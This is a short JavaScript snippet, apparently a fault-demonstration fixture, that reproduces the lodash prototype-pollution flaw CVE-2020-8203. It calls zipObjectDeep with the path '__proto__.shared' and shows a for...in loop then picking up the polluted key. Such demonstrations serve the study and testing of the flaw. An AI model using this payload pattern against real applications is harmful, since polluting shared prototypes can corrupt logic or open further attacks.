// Fault: list key shared
// CVE-2020-8203: zipObjectDeep changes every object.
const _ = require('lodash');
function list(row) {
  const keys = [];
  for (const key in row) {
    if (row[key] === true) throw new TypeError('A row has no flags');
    keys.push(key);
  }
  return keys;
}
_.zipObjectDeep(['__proto__.shared'], [true]);
list({ id: 1 });
